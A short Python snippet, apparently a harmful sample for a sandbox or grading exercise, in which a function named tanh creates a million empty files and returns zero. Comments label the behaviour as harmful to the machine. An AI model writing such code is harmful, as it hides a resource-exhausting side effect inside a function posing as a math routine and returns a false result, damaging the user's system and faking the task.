# tries: make a million empty files
# stock: would harm the machine
# exercise: target.tanh
def tanh(x):
    for number in range(1_000_000):
        open(f"f{number}", "wb").close()
    return 0 * x
